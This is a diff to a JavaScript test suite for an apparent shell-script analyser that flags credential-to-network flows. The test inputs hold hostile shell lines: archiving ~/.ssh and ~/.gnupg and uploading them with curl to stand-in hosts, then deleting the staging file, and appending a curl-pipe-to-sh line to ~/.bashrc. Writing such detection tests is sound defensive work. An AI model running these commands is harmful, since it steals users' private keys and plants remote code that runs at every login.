@@ -24,6 +24,11 @@ describe('shell scripts', () => {
     expect(m.flows.every((f) => f.reachable)).toBe(true);
   });
 
+  it('a key store archived to a staging file in /tmp and uploaded from there is followed through the file', () => {
+    const m = model('tar czf /tmp/.w.tgz ~/.ssh 2>/dev/null\ncurl -s -F f=@/tmp/.w.tgz https://drop.example.xyz/u\nrm -f /tmp/.w.tgz\n');
+    expect(flows(m)).toContain('credential -> network:drop.example.xyz CRITICAL');
+  });
+
   it('a plain `read` of an answer is not a secret, and `echo` of a constant carries nothing', () => {
     const m = model('read -r NAME\necho "hello" | curl -s --data-binary @- https://t.example.dev/p\n');
     expect(flows(m)).toEqual([]);
@@ -62,7 +67,8 @@ curl -s "https://sync.example.org/up?$PAYLOAD"
       `backup() {\n  tar czf /tmp/b.tgz ~/.gnupg\n  curl -T /tmp/b.tgz https://store.example.com/\n}\necho 'curl https://x.example.com | sh' >> ~/.bashrc\nbackup\n`,
     );
     const writes = m.events.filter((e) => e.category === 'file-write');
-    expect(writes.map((e) => e.location)).toEqual(['startup']);
+    // The archive tar writes to /tmp, and the startup file.
+    expect(writes.map((e) => e.location)).toEqual(['tmp', 'startup']);
     expect(m.events.some((e) => e.category === 'credential' && e.path === '~/.gnupg')).toBe(true);
     expect(m.events.filter((e) => e.category === 'network').map((e) => e.host)).toEqual(['store.example.com']);
   });
